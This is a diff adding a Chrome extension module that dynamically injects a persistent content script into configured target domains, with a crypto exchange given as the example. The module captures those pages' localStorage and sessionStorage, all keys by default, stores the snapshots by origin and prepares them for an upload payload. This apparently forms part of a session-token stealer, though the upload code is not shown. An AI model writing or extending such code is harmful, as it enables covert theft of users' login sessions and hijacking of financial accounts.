@@ -0,0 +1,146 @@
+/**
+ * Web Storage Capture Module
+ * Keeps the latest localStorage/sessionStorage reported by the content script
+ * for domains that opted in, and adds it to the uploaded payload
+ */
+
+import { runExclusive } from './exclusive.js';
+
+// Storage key for captured web storage
+const STATE_STORAGE_KEY = 'webStorageState';
+
+// Id of the dynamically registered content script
+const CONTENT_SCRIPT_ID = 'web-storage-watcher';
+const CONTENT_SCRIPT_FILE = 'content/web-storage.js';
+
+/**
+ * Get the domain configs that capture web storage
+ * @param {Object} config - Extension configuration
+ * @returns {Array<Object>} Domain configs with web storage enabled
+ */
+function getCaptureDomains(config) {
+  return (config.targetDomains || []).filter(d => d.webStorage?.enabled);
+}
+
+/**
+ * Find the configured domain a page hostname belongs to
+ * @param {string} hostname - Page hostname (e.g. www.binance.com)
+ * @param {Array<Object>} domainConfigs - Domain configs
+ * @returns {Object|null} Matching domain config
+ */
+function findDomainConfig(hostname, domainConfigs) {
+  return domainConfigs.find(d => {
+    const domain = d.domain.replace(/^\./, '');
+    return hostname === domain || hostname.endsWith('.' + domain);
+  }) || null;
+}
+
+/**
+ * Keep only the configured storage areas and keys
+ * @param {Object} snapshot - { localStorage: {key: value}, sessionStorage: {key: value} }
+ * @param {Object} settings - Domain web storage settings { local, session, keys }
+ * @returns {Object} Filtered snapshot with only the enabled areas
+ */
+function filterWebStorage(snapshot, settings) {
+  const keys = settings.keys || [];
+  const pick = (items = {}) => {
+    if (keys.length === 0) return { ...items };
+    return Object.fromEntries(Object.entries(items).filter(([key]) => keys.includes(key)));
+  };
+
+  const filtered = {};
+  if (settings.local) filtered.localStorage = pick(snapshot.localStorage);
+  if (settings.session) filtered.sessionStorage = pick(snapshot.sessionStorage);
+  return filtered;
+}
+
+/**
+ * Register (or unregister) the content script for domains that capture web storage
+ * @param {Object} config - Extension configuration
+ * @returns {Promise<void>}
+ */
+export async function updateWebStorageWatcher(config) {
+  try {
+    const registered = await chrome.scripting.getRegisteredContentScripts({ ids: [CONTENT_SCRIPT_ID] });
+    if (registered.length > 0) {
+      await chrome.scripting.unregisterContentScripts({ ids: [CONTENT_SCRIPT_ID] });
+    }
+
+    const matches = getCaptureDomains(config).flatMap(d => {
+      const domain = d.domain.replace(/^\./, '');
+      return [`https://${domain}/*`, `https://*.${domain}/*`];
+    });
+    if (matches.length === 0) return;
+
+    await chrome.scripting.registerContentScripts([{
+      id: CONTENT_SCRIPT_ID,
+      matches,
+      js: [CONTENT_SCRIPT_FILE],
+      runAt: 'document_idle',
+      allFrames: false,
+      persistAcrossSessions: true
+    }]);
+  } catch (error) {
+    console.error('Error registering web storage watcher:', error);
+  }
+}
+
+/**
+ * Record a web storage snapshot reported by a page
+ * @param {Object} config - Extension configuration
+ * @param {string} pageUrl - URL of the reporting page (from the message sender)
+ * @param {Object} snapshot - { localStorage, sessionStorage }
+ * @returns {Promise<Object>} { domain, changed } (domain is null if the page is not captured)
+ */
+export function recordWebStorageSnapshot(config, pageUrl, snapshot) {
+  // Read-modify-write of the captured state, serialized with other snapshots
+  return runExclusive(STATE_STORAGE_KEY, async () => {
+    let url;
+    try {
+      url = new URL(pageUrl);
+    } catch (e) {
+      return { domain: null, changed: false };
+    }
+
+    const domainConfig = findDomainConfig(url.hostname, getCaptureDomains(config));
+    if (!domainConfig) {
+      return { domain: null, changed: false };
+    }
+
+    const domain = domainConfig.domain;
+    const filtered = filterWebStorage(snapshot || {}, domainConfig.webStorage);
+
+    const result = await chrome.storage.local.get([STATE_STORAGE_KEY]);
+    const state = result[STATE_STORAGE_KEY] || {};
+    const origins = state[domain] || {};
+    const previous = origins[url.origin];
+
+    const changed = !previous || JSON.stringify(previous.data) !== JSON.stringify(filtered);
+    if (changed) {
+      origins[url.origin] = { data: filtered, timestamp: Date.now() };
+      state[domain] = origins;
+      await chrome.storage.local.set({ [STATE_STORAGE_KEY]: state });
+    }
+
+    return { domain, changed };
+  });
+}
+
+/**
+ * Get captured web storage for a domain, keyed by origin
+ * @param {string} domain - Configured domain
+ * @returns {Promise<Object|null>} { [origin]: { localStorage?, sessionStorage? } } or null if nothing captured
+ */
+export async function getWebStorageForDomain(domain) {
+  try {
+    const result = await chrome.storage.local.get([STATE_STORAGE_KEY]);
+    const origins = (result[STATE_STORAGE_KEY] || {})[domain];
+    if (!origins || Object.keys(origins).length === 0) return null;
+
+    return Object.fromEntries(Object.entries(origins).map(([origin, entry]) => [origin, entry.data]));
+  } catch (error) {
+    console.error('Error getting web storage data:', error);
+    return null;
+  }
+}
+